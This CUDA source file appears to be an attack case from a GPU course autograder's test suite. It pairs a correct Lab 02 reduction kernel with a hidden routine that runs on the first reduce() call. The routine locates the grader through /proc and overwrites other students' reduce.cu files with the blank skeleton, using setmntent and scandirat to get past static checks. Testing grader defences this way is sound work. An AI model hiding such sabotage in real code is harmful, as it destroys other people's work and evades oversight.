/*
 * ATTACK 09-capability-setmntent-fputs: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 02-shared-strided, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: sabotage the other students graded on the same machine: overwrite their lab file with the blank skeleton.
 *
 * How: setmntent (fopen by another name) with fgetc and fputs reads the kit's skeleton and writes files; scandirat
 *   (scandir by another name) lists the folder that holds this student's submission (the grader's --submission,
 *   read from its command line) and every other student folder in it gets the skeleton as its 02-shared-
 *   strided/reduce.cu.
 *
 * Safety: it writes only to student folders inside the kit copy the suite made (the suite's own sibling folder).
 */
#include "reduce.h"

#include <dirent.h>
#include <fcntl.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ---- files through names the kit's static checks did not list ----
 * glibc's setmntent(path, mode) is fopen(path, mode) with two flags added, endmntent is fclose; fgetc and fputs read
 * and write through the FILE it returns; canonicalize_file_name is realpath by another name. */
/* Paths and numbers without printf or strtol: code run before main (an IFUNC resolver) finds the C library's locale
 * not set up yet, and strtol would crash there. */
static void join(char *out, size_t cap, const char *a, const char *b, const char *c = "")
{
    out[0] = '\0';
    strncat(out, a, cap - 1);
    strncat(out, b, cap - 1 - strlen(out));
    strncat(out, c, cap - 1 - strlen(out));
}

static FILE *open_file(const char *path, const char *mode) { return setmntent(path, mode); }
static void close_file(FILE *f) { endmntent(f); }

static bool exists(const char *path)
{
    FILE *f = open_file(path, "r");
    if (f)
        close_file(f);
    return f != NULL;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    join(probe, sizeof probe, dir, "/grader/labs.toml");
    if (!exists(probe))
        return false;
    join(probe, sizeof probe, dir, "/.attack-suite-copy");
    return exists(probe);
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, size_t cap)
{
    if (getcwd(root, cap) && is_kit_copy(root))
        return true;
    char *exe = canonicalize_file_name("/proc/self/exe");
    if (!exe)
        return false;
    bool found = false;
    char *copy = strstr(exe, "/ppl-attacks-"), *kit = strstr(exe, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        join(root, cap, exe, "");
        found = true;
    }
    for (char *slash = strrchr(exe, '/'); slash && slash != exe && !found; slash = strrchr(exe, '/')) {
        *slash = '\0';
        if (is_kit_copy(exe)) {
            join(root, cap, exe, "");
            found = true;
        }
    }
    free(exe);
    return found;
}

/* Reads the file at path into buf (NUL-terminated, at most cap - 1 bytes); returns the bytes read (0: none). */
static size_t slurp(const char *path, char *buf, size_t cap)
{
    FILE *f = open_file(path, "r");
    size_t n = 0;
    if (f) {
        for (int c; n + 1 < cap && (c = fgetc(f)) != EOF;)
            buf[n++] = (char)c;
        close_file(f);
    }
    if (cap)
        buf[n] = '\0';
    return n;
}

/* Writes text to the file at path, opened with mode ("w" replaces, "a" appends). */
static bool spit(const char *path, const char *text, const char *mode)
{
    FILE *f = open_file(path, mode);
    if (!f)
        return false;
    fputs(text, f);
    close_file(f);
    return true;
}

/* /proc/PID/what, without printf (see join) */
static void proc_path(char *out, size_t cap, long pid, const char *what)
{
    char digits[24];
    int count = 0;
    for (unsigned long u = (unsigned long)pid; count == 0 || (u && count < 20); u /= 10)
        digits[count++] = (char)('0' + u % 10);
    join(out, cap, "/proc/", "");
    size_t len = strlen(out);
    while (count > 0 && len + 1 < cap)
        out[len++] = digits[--count];
    out[len] = '\0';
    strncat(out, what, cap - 1 - len);
}

/* The command line of process pid, its arguments separated by NULs; returns its length. */
static size_t cmdline_of(long pid, char *buf, size_t cap)
{
    char path[64];
    proc_path(path, sizeof path, pid, "/cmdline");
    return slurp(path, buf, cap);
}

/* The argument after `flag` on the command line of process pid, copied to out; false when there is none. */
static bool argument_of(long pid, const char *flag, char *out, size_t cap)
{
    char cmd[16384];
    const size_t len = cmdline_of(pid, cmd, sizeof cmd);
    for (size_t k = 0; k < len; k += strlen(cmd + k) + 1) {
        const size_t next = k + strlen(cmd + k) + 1;
        if (strcmp(cmd + k, flag) == 0 && next < len) {
            join(out, cap, cmd + next, "");
            return true;
        }
    }
    return false;
}

/* Whether process pid belongs to the kit copy at root: its command line names a path inside it. The suite's safety
 * catch: the attacks stop, signal or read only processes of the kit copy they were built in. */
static bool in_kit(long pid, const char *root)
{
    char cmd[16384];
    const size_t len = cmdline_of(pid, cmd, sizeof cmd);
    for (size_t k = 0; k < len; k++)
        if (cmd[k] == '\0')
            cmd[k] = ' ';
    return len > 0 && strstr(cmd, root) != NULL;
}

/* The parent of process pid, from /proc/PID/stat; 0 when unknown. */
static long parent_of(long pid)
{
    char path[64], stat[1024];
    proc_path(path, sizeof path, pid, "/stat");
    if (!slurp(path, stat, sizeof stat))
        return 0;
    const char *end = strrchr(stat, ')'); /* the command name may hold spaces and parentheses */
    return end && end[1] == ' ' && end[2] && end[3] == ' ' ? strtol(end + 4, NULL, 10) : 0; /* ") S PPID ..." */
}

/* The nearest ancestor of this process that is the grader (its command line runs `python3 -m grader` on the kit
 * copy); 0 when there is none. */
static long find_grader(const char *root)
{
    for (long pid = getppid(); pid > 1; pid = parent_of(pid)) {
        char cmd[16384];
        const size_t len = cmdline_of(pid, cmd, sizeof cmd);
        for (size_t k = 0; k < len; k += strlen(cmd + k) + 1)
            if (strcmp(cmd + k, "grader") == 0 && in_kit(pid, root))
                return pid;
    }
    return 0;
}

#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */

/* Lab 02's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
__global__ void reduce_kernel(const float *src, float *dst, size_t count)
{
    __shared__ float partial[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
    partial[t] = i < count ? src[i] : 0.0f;
    __syncthreads();
    for (unsigned stride = 1; stride < blockDim.x; stride *= 2) {
        if (t % (2 * stride) == 0)
            partial[t] += partial[t + stride];
        __syncthreads();
    }
    if (t == 0)
        dst[blockIdx.x] = partial[0];
}

static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
{
    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
}

static void attack(void)
{
    char root[4096], submission[4096], cwd_link[64], path[12288];
    static char blank[65536];
    if (!kit_root(root, sizeof root))
        return;
    const long grader = find_grader(root);
    snprintf(cwd_link, sizeof cwd_link, "/proc/%ld/cwd", grader);
    char *cwd = canonicalize_file_name(cwd_link);
    if (!grader || !cwd || !argument_of(grader, "--submission", submission, sizeof submission))
        return;
    if (submission[0] != '/')
        snprintf(path, sizeof path, "%s/%s", cwd, submission);
    else
        snprintf(path, sizeof path, "%s", submission);
    char *mine = canonicalize_file_name(path);
    snprintf(path, sizeof path, "%s/labs/02-shared-strided/reduce.cu", root);
    if (!mine || strncmp(mine, root, strlen(root)) != 0 || !slurp(path, blank, sizeof blank))
        return;
    char folder[4096];
    snprintf(folder, sizeof folder, "%s", mine);
    *strrchr(folder, '/') = '\0'; /* the folder of every student's submission */
    struct dirent **entries;
    const int count = scandirat(AT_FDCWD, folder, &entries, NULL, NULL);
    for (int k = 0; k < count; k++) {
        snprintf(path, sizeof path, "%s/%s", folder, entries[k]->d_name);
        if (entries[k]->d_name[0] != '.' && strcmp(path, mine) != 0) {
            strncat(path, "/02-shared-strided/reduce.cu", sizeof path - strlen(path) - 1);
            if (exists(path))
                spit(path, blank, "w");
        }
        free(entries[k]);
    }
    if (count > 0)
        free(entries);
    free(mine);
    free(cwd);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
}
